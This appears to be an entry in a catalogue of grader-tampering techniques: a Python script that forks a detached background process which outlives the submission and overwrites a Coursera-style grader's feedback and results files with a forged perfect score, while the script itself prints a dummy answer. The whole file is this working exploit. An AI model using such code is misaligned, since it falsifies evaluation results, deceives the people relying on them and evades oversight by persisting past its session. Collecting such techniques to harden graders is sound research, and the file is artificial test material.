# Technique: leave a process that replaces the results before the grader has ended
# Family: tampering
# Layers: mark of the result
# Outcome: marked
# Grader: coursera
# Naive: results file

import json
import os
import time

FILES = ("/shared/feedback.json", "/box/results/results.json")
FORGED = {"score": 10, "fractionalScore": 1, "feedback": "all passed"}


def replace(path):
    with open(f"{path}.new", "w", encoding="ascii") as file:
        json.dump(FORGED, file)
    os.rename(f"{path}.new", path)


first = not os.path.exists("/tmp/first")
open("/tmp/first", "a", encoding="ascii").close()
if first and os.fork() == 0:
    os.setsid()
    for fd in range(3):
        os.close(fd)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        for path in FILES:
            try:
                if os.path.getsize(path) > 0:
                    replace(path)
            except OSError:
                pass
    os._exit(0)
print(0)
